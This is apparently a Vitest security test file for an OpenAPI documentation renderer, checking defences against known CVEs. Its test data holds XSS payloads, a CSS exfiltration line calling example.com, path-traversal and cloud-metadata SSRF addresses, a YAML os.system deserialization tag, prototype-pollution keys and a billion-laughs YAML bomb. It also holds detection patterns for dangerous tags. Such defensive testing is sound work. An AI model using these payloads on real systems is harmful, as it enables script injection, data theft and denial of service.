/**
 * Attacks by an OpenAPI file, after known vulnerabilities of other tools. The content room renders the HTML.
 */
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { renderUntrustedMarkdown } from '../../../src/content/index.ts';
import {
  documentText,
  exampleOf,
  loadApiDocument,
  pageExtensions,
  schemaView,
} from '../../../src/openapi/index.ts';
import { parsePage } from '../../support/html.ts';
import { codes, docsFolder, document31, loadText, places } from '../support.ts';
import { viewOf } from '../views.ts';

/** As a literal key it would make the object look like a promise. */
const THEN = 'then';
const XSS = '<img src=x onerror=alert(1)>';
const SCRIPT = 'javascript:alert(1)';

describe('names and values are only text (CVE-2016-1000229, GHSA-7f59-x49p-v8mq, GHSA-vp93-gcx5-4w52)', () => {
  test('keys of properties, media types, parameters, headers, tags and scopes stay unchanged, as data', async () => {
    const schema = { type: 'object', properties: { [XSS]: { type: 'string', description: XSS } } };
    const { document } = await loadText(
      document31({
        tags: [{ name: XSS }],
        paths: {
          '/a': {
            post: {
              tags: [XSS],
              parameters: [{ name: XSS, in: 'query', schema: { type: 'string', enum: [XSS] } }],
              requestBody: { content: { [XSS]: { schema } } },
              responses: {
                200: { description: XSS, headers: { [XSS]: { schema: {} } }, content: { [XSS]: { schema } } },
              },
              security: [{ [XSS]: [XSS] }],
            },
          },
        },
      }),
    );
    const [operation] = document?.operations ?? [];
    expect(operation?.request.parameters[0]?.name).toBe(XSS);
    expect(operation?.request.body?.media[0]?.contentType).toBe(XSS);
    expect(operation?.security).toEqual([[{ key: XSS, scopes: [XSS] }]]);
    const view = await viewOf(operation);
    // Every member with HTML is safe; all others are put into the page as text.
    for (const [key, html] of htmlIn(view)) {
      expect(html, key).not.toMatch(/<img[^>]*onerror|<script|<style|javascript:/i);
    }
    expect(view.responses[0]?.media[0]?.contentType).toBe(XSS);
  });
});

describe('Markdown (CVE-2019-17495, swagger-ui#3847)', () => {
  test.each([
    '<style>@import url(https://example.com/steal.css)</style>',
    '<style>input[value^=a]{background:url(//example.com/a)}</style>',
    '<script>alert(1)</script>',
    '<svg><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)>',
    '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    XSS,
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<base href="https://example.com/">',
    '<meta http-equiv="refresh" content="0;url=https://example.com">',
    '<link rel=stylesheet href=//example.com/x.css>',
    '<form action=https://example.com><input name=p></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#x6a;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox)',
    '![x](javascript:alert(1))',
    '<p style="position:fixed;inset:0">x</p>',
    '<div id="root" onclick="alert(1)">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ])('%s contains nothing that runs, loads or covers the page', (source) => {
    const page = parsePage(`<!doctype html><body>${renderUntrustedMarkdown(source)}</body>`);
    const problems: string[] = [];
    const visit = (node: unknown): void => {
      const {
        tagName = '',
        attrs = [],
        childNodes = [],
        content,
      } = node as {
        tagName?: string;
        attrs?: { name: string; value: string }[];
        childNodes?: unknown[];
        content?: unknown;
      };
      if (/^(?:script|style|iframe|object|embed|base|meta|link|form|input|noscript|template)$/.test(tagName))
        problems.push(tagName);
      for (const { name, value } of attrs) {
        if (/^on|^style$|^srcdoc$/.test(name)) problems.push(name);
        if (/^(?:href|src|action|data)$/.test(name) && /^\s*(?:java|vb|data)/i.test(value))
          problems.push(value);
      }
      childNodes.forEach(visit);
      if (content) visit(content);
    };
    visit(page);
    expect(problems).toEqual([]);
  });
});

describe('addresses (GHSA-4f9m-pxwh-68hg)', () => {
  test.each([
    SCRIPT,
    ' JavaScript:alert(1)',
    'java\nscript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
  ])('%s is never a link', async (url) => {
    const { document } = await loadText(
      document31({
        info: {
          title: 'T',
          version: '1',
          termsOfService: url,
          contact: { name: 'n', url },
          license: { name: 'l', url },
          'x-logo': { url, href: url },
        },
        externalDocs: { url },
        tags: [{ name: 't', externalDocs: { url } }],
        servers: [{ url }],
        components: {
          securitySchemes: {
            o: {
              type: 'oauth2',
              oauth2MetadataUrl: url,
              flows: {
                authorizationCode: { authorizationUrl: url, tokenUrl: url, refreshUrl: url, scopes: {} },
              },
            },
            c: { type: 'openIdConnect', openIdConnectUrl: url },
          },
        },
        paths: {
          '/a': {
            get: {
              externalDocs: { url },
              'x-mint': { href: url },
              responses: {
                200: {
                  description: '',
                  content: { 'application/json': { schema: { externalDocs: { url } } } },
                },
              },
              security: [{ o: [] }],
            },
          },
        },
      }),
    );
    if (!document) throw new Error('not read');
    const { document: _raw, ...model } = document;
    const [operation] = model.operations;
    const schema = operation?.responses[0]?.content[0]?.schema ?? {};
    const view = schemaView(schema, {}, { maintainOrder: true, direction: 'any' });
    const { extensions: _extensions, ...rest } = operation ?? { extensions: {} };
    const shown = {
      ...model,
      operations: [{ ...rest, responses: [] }],
      view,
      page: operation && pageExtensions(operation),
    };
    expect(JSON.stringify(shown)).not.toContain(JSON.stringify(url).slice(1, -1));
  });
});

describe('references outside the docs folder (CVE-2026-39885)', () => {
  test.each([
    'file:///etc/passwd',
    '/etc/passwd',
    '../../../../../../etc/passwd',
    '..%2f..%2f..%2fetc/passwd',
    'http://169.254.169.254/latest/meta-data/',
    'http://[fd00:ec2::254]/latest/meta-data/',
    'http://localhost:9/x.json',
    'https://metadata.google.internal/computeMetadata/v1/',
    'data:application/json,{"type":"string"}',
    'ftp://example.com/x.json',
    '//example.com/x.json',
    '\\\\host\\share\\x.json',
  ])('%s is not read, and the problem is located', async ($ref) => {
    const loaded = await loadText(
      document31({
        paths: {
          '/a': {
            get: {
              responses: { 200: { description: '', content: { 'application/json': { schema: { $ref } } } } },
            },
          },
        },
      }),
      { source: 'api.json' },
    );
    expect(loaded.document?.operations[0]?.responses[0]?.content[0]?.schema).toEqual({});
    expect(places(loaded)).toContainEqual(expect.stringMatching(/^api\.json:1:\d+ openapi\//));
    expect(JSON.stringify(loaded.document)).not.toContain('root:');
  });

  test('no name in a file is read as a path: externalValue, operationRef, mapping', async () => {
    const root = await docsFolder({
      'api.json': document31({
        paths: {
          '/a': {
            get: {
              responses: {
                200: {
                  description: '',
                  links: { next: { operationRef: 'file:///etc/passwd#/paths/~1a/get' } },
                  content: {
                    'application/json': {
                      schema: { discriminator: { propertyName: 'k', mapping: { a: 'file:///etc/passwd' } } },
                      examples: { x: { externalValue: 'file:///etc/passwd' } },
                    },
                  },
                },
              },
            },
          },
        },
      }),
    });
    const { document, files } = await loadApiDocument({ root, source: 'api.json' });
    expect(files).toEqual(['api.json']);
    expect(document?.operations[0]?.responses[0]).toMatchObject({ content: [{ examples: [] }] });
  });
});

describe('prototypes (CVE-2024-57083)', () => {
  const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];
  test('names of Object.prototype are ordinary names everywhere; nothing is polluted', async () => {
    const properties = JSON.parse(
      `{${names.map((name) => `"${name}": {"type": "object", "properties": {"polluted": {"const": true}}}`)}}`,
    );
    const text = document31({
      components: {
        schemas: {
          S: {
            type: 'object',
            properties,
            required: names,
            example: JSON.parse('{"__proto__": {"polluted": true}}'),
          },
        },
      },
      paths: {
        '/a': {
          post: {
            requestBody: {
              content: {
                'application/json': {
                  schema: { allOf: [{ $ref: '#/components/schemas/S' }, { properties }] },
                },
              },
            },
            responses: {},
          },
        },
      },
    });
    const loaded = await loadText(text, { source: 'api.json' });
    expect(codes(loaded)).toContain('openapi/refused-key');
    const { schema } = loaded.document?.operations[0]?.request.body?.media[0] ?? {};
    const { components = {} } = loaded.document?.operations[0]?.request ?? {};
    const value = exampleOf(schema ?? {}, components, { direction: 'request' });
    schemaView(schema ?? {}, components, { maintainOrder: true, direction: 'request' });
    expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});

describe('YAML (CVE-2017-1000207, CVE-2017-1000208)', () => {
  test.each([
    '!!js/function "function () {}"',
    '!!python/object/apply:os.system ["id"]',
    '!!js/regexp /x/',
    '!foo {a: 1}',
  ])('the tag %s creates no code', async (tagged) => {
    const loaded = await loadText(
      `openapi: 3.1.0\ninfo: {title: T, version: '1'}\npaths: {}\nx-a: ${tagged}\n`,
    );
    const value = loaded.document?.document['x-a'];
    expect(['string', 'object', 'undefined']).toContain(typeof value);
    expect(value instanceof RegExp).toBe(false);
  });
});

describe('descriptions designed to be large', () => {
  test('aliases, depth and references end in a located problem; time is limited, too', async () => {
    const bomb = [
      'a: &a [x,x,x,x,x,x,x,x,x]',
      ...'bcdefgh'
        .split('')
        .map((key, index) => `${key}: &${key} [${Array(9).fill(`*${'abcdefgh'[index]}`).join(',')}]`),
    ];
    const billion = await loadText(`openapi: 3.1.0\ninfo: {title: T, version: '1'}\n${bomb.join('\n')}\n`);
    expect(places(billion)).toEqual([
      expect.stringMatching(/^api\.yaml:\d+:\d+ openapi\/(?:alias|node)-limit$/),
    ]);
    const slow = await loadText(document31({ paths: { '/a': { get: { responses: {} } } } }), {
      limits: { time: 0 },
    });
    expect(slow.document).toBeUndefined();
    expect(codes(slow)).toContain('openapi/time-limit');
    expect(slow.diagnostics.at(-1)).toMatchObject({ severity: 'error', range: { start: { line: 1 } } });
  });

  test('checks stop after half of the time, and the pages are built', async () => {
    let now = 0;
    // Each reading of the clock takes a millisecond.
    const clock = vi.spyOn(performance, 'now').mockImplementation(() => ++now);
    onTestFinished(() => clock.mockRestore());
    const properties = Object.fromEntries(
      Array.from({ length: 1_500 }, (_, index) => [`p${index}`, { type: 'string' }]),
    );
    const loaded = await loadText(
      document31({
        paths: { '/a': { get: { responses: {} } } },
        components: { schemas: { A: { properties } } },
      }),
      { limits: { time: 2_000 } },
    );
    expect(codes(loaded)).toEqual(['openapi/not-checked']);
    expect(loaded.diagnostics[0]?.message).toBe('Checking the OpenAPI file takes longer than 1 s.');
    expect(loaded.document?.operations).toHaveLength(1);
  });

  test('schemas that double at each level have views and examples of limited size', async () => {
    const schemas = Object.fromEntries(
      Array.from({ length: 40 }, (_, index) => {
        const next = { $ref: `#/components/schemas/S${index + 1}` };
        return [
          `S${index}`,
          {
            allOf: [next, { oneOf: [next, next] }],
            properties: { a: next, b: next },
            not: next,
            if: next,
            [THEN]: next,
          },
        ];
      }),
    );
    const { document } = await loadText(
      document31({
        components: { schemas: { ...schemas, S40: { type: 'object' } } },
        paths: {
          '/a': {
            post: {
              requestBody: {
                content: { 'application/json': { schema: { $ref: '#/components/schemas/S30' } } },
              },
              responses: {},
            },
          },
        },
      }),
    );
    const { request } = document?.operations[0] ?? {};
    const schema = request?.body?.media[0]?.schema ?? {};
    const view = schemaView(schema, request?.components ?? {}, { maintainOrder: true, direction: 'any' });
    expect(JSON.stringify(view).length).toBeLessThan(1_000_000);
    const value = exampleOf(schema, request?.components ?? {}, { direction: 'request' });
    expect(JSON.stringify(value).length).toBeLessThan(1_000_000);
  });
});

test('x-internal parts are on no page and not in the download', async () => {
  const hidden = { 'x-internal': true };
  const { document } = await loadText(
    document31({
      paths: {
        '/a': { get: { ...hidden, summary: 'secret', responses: {} } },
        '/b': { ...hidden, get: { summary: 'secret', responses: {} } },
        '/c': {
          get: {
            parameters: [{ name: 'secret', in: 'query', ...hidden, schema: {} }],
            responses: {
              200: {
                description: '',
                content: { 'application/json': { schema: { properties: { secret: hidden, shown: {} } } } },
              },
            },
          },
        },
      },
    }),
  );
  const [a, b, c] = document?.operations ?? [];
  expect([a, b, c].map((operation) => operation && pageExtensions(operation).isExcluded)).toEqual([
    true,
    true,
    false,
  ]);
  const view = await viewOf(c);
  expect(JSON.stringify(view)).not.toContain('secret');
  expect(documentText({ document: document?.document ?? {} })).not.toContain('secret');
});

function htmlIn(value: unknown, key = ''): [string, string][] {
  if (typeof value === 'string') return /html$/i.test(key) ? [[key, value]] : [];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, child]) => htmlIn(child, Array.isArray(value) ? key : name));
}
